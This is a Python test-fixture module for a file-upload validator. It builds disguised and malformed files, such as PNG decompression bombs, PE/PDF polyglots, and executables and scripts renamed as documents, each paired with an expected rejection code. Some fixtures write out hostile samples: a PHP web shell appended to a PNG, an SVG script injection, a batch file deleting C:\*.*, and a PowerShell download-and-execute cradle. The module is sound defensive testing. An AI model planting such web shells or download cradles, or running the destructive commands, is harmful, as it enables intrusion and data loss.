"""Test files built in code: images, programs, archives, scripts and other formats.

Each case is (builder, file name as the sender gives it, expected reason code
or None when the file must be accepted).
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable

from PIL import Image

Case = tuple[Callable[[], bytes], str, str | None]


def png(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 30, 200)).save(out, "JPEG", quality=85)
    return out.getvalue()


def noisy_jpeg(width: int, height: int, quality: int = 92) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 48).convert("RGB").save(out, "JPEG", quality=quality)
    return out.getvalue()


def noisy_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 48).convert("RGB").save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb() -> bytes:
    """50,000 x 50,000 pixels declared; a few kB on disk."""
    ihdr = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\0" * (50_001 * 20), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def png_ztxt_bomb() -> bytes:
    """A zTXt chunk that inflates to 64 MB of text."""
    plain = png()
    bomb = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * (64 * 1024 * 1024), 9))
    return plain[:33] + bomb + plain[33:]


def jpeg_header_only() -> bytes:
    data = jpeg(640, 480)
    return data[: data.index(b"\xff\xda") + 12]


def zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("rechnung.pdf", b"%PDF-1.4 not really")
        zf.writestr("readme.txt", b"hello")
    return out.getvalue()


def pe_executable() -> bytes:
    """A minimal PE header: MZ stub pointing at a PE signature."""
    stub = bytearray(b"MZ" + b"\x90" * 58 + struct.pack("<I", 64))
    return bytes(stub) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200


def pe_pdf_polyglot() -> bytes:
    data = bytearray(pe_executable().ljust(300, b"\0"))
    return bytes(data) + b"%PDF-1.4\n%%EOF\n"


def tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        info = tarfile.TarInfo("evil.sh")
        payload = b"#!/bin/sh\necho pwned\n"
        info.size = len(payload)
        tf.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def lnk_bytes() -> bytes:
    return (
        b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\0" * 60
    )


CASES: dict[str, Case] = {
    "png": (png, "scan.png", None),
    "jpeg": (jpeg, "foto.jpg", None),
    "png named .jpg": (png, "foto.jpg", "name.mismatch"),
    "jpeg named .png": (jpeg, "bild.png", "name.mismatch"),
    "jpeg + appended zip": (lambda: jpeg() + zip_bytes(), "foto.jpg", "payload.trailing"),
    "png + php after IEND": (
        lambda: png() + b"<?php system($_GET['c']); ?>",
        "bild.png",
        "payload.trailing",
    ),
    "50000x50000 png bomb": (png_bomb, "plan.png", "image.too_many_pixels"),
    "64 MB zTXt chunk": (png_ztxt_bomb, "bild.png", "image.metadata_too_large"),
    "svg named .png": (
        lambda: (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
            b'onload="alert(1)"><script>alert(1)</script></svg>'
        ),
        "logo.png",
        "format.svg",
    ),
    "header-only jpeg": (jpeg_header_only, "foto.jpg", "image.damaged"),
    "truncated png": (lambda: png(300, 300)[:-40], "bild.png", "image.damaged"),
    "empty file": (lambda: b"", "leer.pdf", "file.empty"),
    "exe renamed .pdf": (pe_executable, "rechnung.pdf", "exe.pe"),
    "pe/pdf polyglot": (pe_pdf_polyglot, "rechnung.pdf", "exe.pe"),
    "elf renamed .jpg": (lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 100, "foto.jpg", "exe.elf"),
    "mach-o renamed .pdf": (lambda: b"\xcf\xfa\xed\xfe" + b"\0" * 100, "a.pdf", "exe.macho"),
    "bat renamed .pdf": (
        lambda: b"@echo off\r\ndel /q C:\\*.*\r\n",
        "antrag.pdf",
        "exe.script",
    ),
    "powershell renamed .docx": (
        lambda: (
            b"$client = New-Object System.Net.WebClient\r\nIEX ($client.DownloadString('x'))\r\n"
        ),
        "antrag.docx",
        "exe.script",
    ),
    "vbs renamed .xlsx": (
        lambda: b'Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\n',
        "liste.xlsx",
        "exe.script",
    ),
    "hta renamed .pdf": (
        lambda: b"<html><head><HTA:APPLICATION ID=x></head><script>x</script></html>",
        "a.pdf",
        "exe.script",
    ),
    "lnk renamed .jpg": (lnk_bytes, "foto.jpg", "exe.lnk"),
    "rar renamed .pdf": (lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 64, "akte.pdf", "archive.rar"),
    "7z renamed .docx": (
        lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 64,
        "a.docx",
        "archive.7z",
    ),
    "gzip renamed .png": (lambda: gzip.compress(b"Hallo"), "a.png", "archive.gzip"),
    "tar renamed .pdf": (tar_bytes, "a.pdf", "archive.tar"),
    "plain zip renamed .pdf": (zip_bytes, "a.pdf", "archive.zip"),
    "html renamed .pdf": (
        lambda: b"<!DOCTYPE html><html><body>Hi</body></html>",
        "a.pdf",
        "format.html",
    ),
    "rtf renamed .docx": (
        lambda: b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hallo}",
        "brief.docx",
        "format.rtf",
    ),
    "gif renamed .jpg": (
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        "a.jpg",
        "format.image_unsupported",
    ),
    "heic renamed .jpg": (
        lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64,
        "IMG_0001.jpg",
        "format.image_unsupported",
    ),
    "plain text renamed .pdf": (
        lambda: b"Sehr geehrte Damen und Herren,\n" * 3,
        "brief.pdf",
        "format.text",
    ),
    "random binary": (lambda: bytes(range(256)) * 4, "daten.pdf", "format.unknown"),
}
